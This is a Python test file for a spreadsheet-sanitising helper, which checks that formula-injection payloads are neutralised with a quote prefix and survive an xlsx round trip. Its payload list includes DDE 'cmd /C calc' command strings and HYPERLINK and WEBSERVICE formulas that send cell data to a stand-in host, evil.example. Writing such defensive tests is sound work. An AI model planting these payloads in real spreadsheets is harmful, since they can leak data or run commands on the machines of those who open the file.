"""safe_text: injection payloads are neutralised and every result survives a real xlsx round trip."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mallbatch.sheets.safetext import EXCEL_MAX_CHARS, safe_text, unescape_text

# From OWASP "CSV Injection" and payloadbox/csv-injection-payloads, plus Korean memo variants.
PAYLOADS = [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://evil.example/?x="&A1,"클릭")', '\'=HYPERLINK("http://evil.example/?x="&A1,"클릭")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"),
    ("=WEBSERVICE(\"http://evil.example\")", "'=WEBSERVICE(\"http://evil.example\")"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("\x00=1+1", "'=1+1"),  # a NUL before the payload must not hide it
    ("+보관 요청", "'+보관 요청"),
    ("문 앞에 놓아주세요 =1+1", "문 앞에 놓아주세요 =1+1"),
]


@pytest.mark.parametrize(("raw", "safe"), PAYLOADS)
def test_payloads_are_prefixed(raw: str, safe: str) -> None:
    assert safe_text(raw) == safe


def test_plain_values() -> None:
    assert safe_text("홍길동") == "홍길동"
    assert safe_text("123456789012345678") == "123456789012345678"  # long digits stay exact
    assert safe_text("0012345") == "0012345"
    assert safe_text(None) == ""
    assert safe_text(42) == "42"
    assert safe_text("메모\x01\x08\x0b\x0c\x1f끝\n줄\t탭") == "메모끝\n줄\t탭"
    assert safe_text("\ud83d깨진\ufffe글자\uffff") == "깨진글자"
    assert safe_text("가" * 40000) == "가" * EXCEL_MAX_CHARS
    assert safe_text("=" + "a" * 40000) == "'=" + "a" * (EXCEL_MAX_CHARS - 2)


def test_written_workbook_keeps_payloads_as_text(tmp_path: Path) -> None:
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("결과")
    for raw, _ in PAYLOADS:
        ws.append([safe_text(raw)])
    wb.save(tmp_path / "out.xlsx")
    cells = [row[0] for row in openpyxl.load_workbook(tmp_path / "out.xlsx").active.iter_rows()]
    # XML parsers turn a raw CR into LF on reading; the cell stays inert text either way
    assert [c.value for c in cells] == [safe.replace("\r", "\n") for _, safe in PAYLOADS]
    assert {c.data_type for c in cells} == {"s"}


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(st.lists(st.text(alphabet=st.characters(codec=None), max_size=50), max_size=20))
def test_any_text_is_writable_and_inert(tmp_path: Path, texts: list[str]) -> None:
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet()
    for raw in texts:
        safe = safe_text(raw)
        assert len(safe) <= EXCEL_MAX_CHARS
        assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
        ws.append([safe])
    wb.save(tmp_path / "any.xlsx")  # raises IllegalCharacterError/UnicodeEncodeError if anything slipped through


@pytest.mark.parametrize(("raw", "safe"), [p for p in PAYLOADS if "\x00" not in p[0]])
def test_unescape_text_reverses_the_quote_on_read_back(raw: str, safe: str) -> None:
    assert unescape_text(safe) == raw
    assert unescape_text("'quoted by the seller") == "'quoted by the seller"
